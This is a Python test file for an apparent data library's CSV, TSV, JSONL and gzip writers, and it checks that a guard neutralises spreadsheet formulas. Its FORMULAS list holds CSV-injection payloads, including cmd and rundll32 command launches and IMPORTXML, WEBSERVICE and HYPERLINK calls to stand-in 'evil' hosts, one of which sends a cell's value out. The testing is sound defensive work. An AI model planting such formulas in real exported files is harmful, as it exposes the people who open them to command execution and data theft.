from __future__ import annotations

import csv
import datetime
import decimal
import gzip
import io
import json
import sys

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from labelwise.errors import DataError
from labelwise.files.formats import FileFormat
from labelwise.files.text_rows import read_csv, read_jsonl
from labelwise.files.writers import guard_formula, open_writer

FORMULAS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    '=IMPORTXML(CONCAT("http://evil/?v=", A1), "//a")',
    '=WEBSERVICE("http://evil")',
    "=2+5+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "=\t1",
    "==1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+SUM(A1)",
    "+",
    "+A1",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "-A1",
    "-",
    "- a bullet",
    "--1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@",
    "\t=1+1",
    "\t",
    "\r=1+1",
    "\r\n=1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1+A1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "-1e5x",
    "+1,5",
]

# The csv module of Python 3.10 cannot read NUL: such a row is a bad row there.
NUL = "\0" if sys.version_info >= (3, 11) else ""
odd_text = st.text(
    st.characters(exclude_categories=["Cs"], exclude_characters="" if NUL else "\0"), max_size=30
) | st.text(st.sampled_from(list("\",;\t\n\r='\ufeff\u2028\x85 a" + NUL)), max_size=12)
COLUMNS = ["a", "b c"]


def encoded(format, rows, *, raw_csv=False, columns=COLUMNS):
    writer = open_writer(format, columns=columns, raw_csv=raw_csv)
    return writer.start() + writer.encode(rows)


@pytest.mark.parametrize("kind", ["csv", "tsv"])
@given(rows=st.lists(st.fixed_dictionaries({name: odd_text for name in COLUMNS}), max_size=5))
def test_any_text_survives_csv_when_the_guard_is_off(kind, rows):
    format = FileFormat(kind)
    back = read_csv(io.BytesIO(encoded(format, rows, raw_csv=True)), format, "memory")
    assert [row.values for row in back] == rows


@given(texts=st.lists(odd_text, max_size=5))
def test_any_text_survives_csv_of_one_column(texts):
    data = encoded(FileFormat("csv"), [{"a": text} for text in texts], raw_csv=True, columns=["a"])
    assert [row.values["a"] for row in read_csv(io.BytesIO(data), FileFormat("csv"), "memory")] == texts


@given(texts=st.lists(odd_text, max_size=5))
def test_the_guard_only_ever_puts_one_apostrophe_in_front(texts):
    data = encoded(FileFormat("csv"), [{"a": text} for text in texts], columns=["a"])
    back = [row.values["a"] for row in read_csv(io.BytesIO(data), FileFormat("csv"), "memory")]
    assert all(new in (old, "'" + old) for old, new in zip(texts, back, strict=True))


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | odd_text,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(odd_text, inner, max_size=3),
    max_leaves=6,
)


@given(rows=st.lists(st.dictionaries(odd_text, json_values, max_size=3), max_size=4))
def test_any_value_survives_jsonl(rows):
    format = FileFormat("jsonl")
    assert [row.values for row in read_jsonl(io.BytesIO(encoded(format, rows)), format, "memory")] == rows


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_formula_is_text_in_csv_unless_raw(payload):
    for kind, delimiter in (("csv", ","), ("tsv", "\t")):
        guarded = encoded(FileFormat(kind), [{"a": payload}], columns=["a"]).decode()
        raw = encoded(FileFormat(kind), [{"a": payload}], columns=["a"], raw_csv=True).decode()
        assert list(csv.reader(io.StringIO(guarded, newline=""), delimiter=delimiter))[1] == ["'" + payload]
        assert list(csv.reader(io.StringIO(raw, newline=""), delimiter=delimiter))[1] == [payload]
    assert json.loads(encoded(FileFormat("jsonl"), [{"a": payload}])) == {"a": payload}


def test_a_formula_as_a_column_name_is_guarded_too():
    assert encoded(FileFormat("csv"), [], columns=["=A1"]) == b"'=A1\n"


@pytest.mark.parametrize("text", ["-5", "+4912345", "-1.5e-3", "-.5", "5", "", "a=b", "'=1", " =1", "1-1"])
def test_numbers_and_harmless_texts_are_left_alone(text):
    assert guard_formula(text) == text


def test_numbers_are_never_guarded():
    row = {"a": -0.25, "b c": np.float32(-0.5)}
    assert encoded(FileFormat("csv"), [row]) == b"a,b c\n-0.25,-0.5\n"


def test_csv_cells_of_every_kind():
    rows = [
        {"a": None, "b c": True},
        {"a": float("nan"), "b c": {"x": [1, "é"]}},
        {"a": datetime.date(2026, 1, 2), "b c": decimal.Decimal("1.10")},
        {"a": b"\xff", "b c": np.arange(2)},
        {"a": np.int64(3)},
    ]
    assert encoded(FileFormat("csv"), rows).decode() == (
        'a,b c\n,true\n,"{""x"": [1, ""é""]}"\n2026-01-02,1.10\n/w==,"[0, 1]"\n3,\n'
    )


def test_jsonl_of_every_kind_is_strict_json():
    rows = [{"a": float("nan"), "b": [np.float32("inf"), np.float64(0.1)], "c": (1, 2), "d": "é\u2028"}]
    line = encoded(FileFormat("jsonl"), rows)
    assert line == '{"a": null, "b": [null, 0.1], "c": [1, 2], "d": "é\u2028"}\n'.encode()


def test_a_value_that_is_no_data_is_refused():
    with pytest.raises(DataError, match="object"):
        encoded(FileFormat("jsonl"), [{"a": object()}])


def test_gzip_chunks_make_one_gzip_file_that_does_not_know_the_time():
    writer = open_writer(FileFormat("csv", is_gzipped=True), columns=["a"])
    data = writer.start() + writer.encode([{"a": "x"}]) + writer.encode([{"a": "y"}])
    assert gzip.decompress(data) == b"a\nx\ny\n"
    assert writer.encode([{"a": "x"}])[4:8] == b"\0\0\0\0"
